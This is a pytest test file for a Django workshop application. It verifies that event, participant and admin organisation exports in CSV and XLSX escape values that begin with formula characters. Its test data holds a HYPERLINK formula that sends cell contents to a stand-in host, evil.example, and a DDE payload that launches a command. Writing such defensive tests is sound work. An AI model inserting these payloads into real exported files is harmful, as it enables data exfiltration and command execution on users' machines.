"""No export writes a live formula (issue 13, point 10): a title or name starting with = + - @
stays text, readable, in the events, participants and lessons exports and the admin's."""

import csv
import io

import openpyxl
import pytest

from partners.resources import OrganisationResource
from tests import factories
from workshops.models import Participant

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def secretariat(client, secretariat_user):
    client.force_login(secretariat_user)
    return client


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def xlsx_values(response) -> list:
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [cell.value for row in sheet.iter_rows() for cell in row]


def test_an_event_title_that_looks_like_a_formula_is_exported_as_text(secretariat):
    factories.EventFactory(title=HOSTILE)

    as_csv = secretariat.get("/workshops/export/", {"format": "csv", "tab": "all"})
    as_xlsx = secretariat.get("/workshops/export/", {"format": "xlsx", "tab": "all"})

    assert "'" + HOSTILE in [cell for row in csv_rows(as_csv) for cell in row]
    assert "'" + HOSTILE in xlsx_values(as_xlsx)
    assert HOSTILE not in xlsx_values(as_xlsx)


def test_a_participant_named_like_a_formula_is_exported_as_text(secretariat):
    event = factories.EventFactory()
    person = factories.PersonFactory(full_name="@SUM(1+1)*cmd|' /C calc'!A0")
    Participant.objects.create(event=event, person=person)

    as_csv = secretariat.get(f"/workshops/{event.pk}/participants/export/", {"format": "csv"})
    as_xlsx = secretariat.get(f"/workshops/{event.pk}/participants/export/", {"format": "xlsx"})

    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in [cell for row in csv_rows(as_csv) for cell in row]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in xlsx_values(as_xlsx)


def test_the_admins_export_of_organisations_writes_no_formula(client, admin_user):
    client.force_login(admin_user)
    factories.OrganisationFactory(name=HOSTILE)
    fields = OrganisationResource().get_export_order()

    response = client.post(
        "/admin/partners/organisation/export/",
        {"resource": "0", "format": "0", **{f"organisationresource_{f}": "on" for f in fields}},
    )

    assert response.status_code == 200
    cells = [cell for row in csv_rows(response) for cell in row]
    assert HOSTILE[1:] in cells and HOSTILE not in cells
